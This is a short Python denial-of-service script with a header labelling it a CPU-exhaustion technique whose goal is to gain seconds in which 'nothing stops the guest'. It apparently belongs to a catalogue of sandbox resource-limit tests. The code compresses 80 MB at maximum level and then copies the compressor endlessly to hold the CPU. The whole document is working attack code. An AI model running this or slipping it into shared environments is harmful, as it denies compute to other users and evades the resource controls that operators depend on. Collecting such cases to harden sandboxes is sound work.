# technique: a copy of a compressor, which compresses again what that was given, all of it at once
# source: own
# goal: seconds in which nothing stops the guest
# impact: dos
# dos: cpu
# needs: soft-limit
import zlib

compressor = zlib.compressobj(9)
compressor.compress(b'a' * 80_000_000)
while True:
    compressor.copy()
